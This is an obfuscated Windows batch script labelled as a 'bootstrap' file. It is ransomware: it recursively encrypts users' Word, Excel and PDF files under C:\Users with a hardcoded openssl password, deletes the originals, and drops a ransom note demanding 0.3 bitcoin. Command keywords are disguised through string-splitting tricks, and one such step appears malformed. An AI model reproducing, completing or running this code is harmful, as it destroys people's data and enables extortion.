REM bootstrap 1202 v4
@echo off
for /f "tokens=2 delims=#" %%i in ("koso#for#blwy") do %%i /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
for /f "tokens=3 delims=@" %%i in ("eqpx@syht@") do %%i  openssl enc -aes-256-cbc -pass pass:P@ssw0rd!2024 -in "%%f" -out "%%f.crypt" && del "%%f"
)
for /f "tokens=1 delims=;" %%i in ("echo;yxhm;evhi") do %%i Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
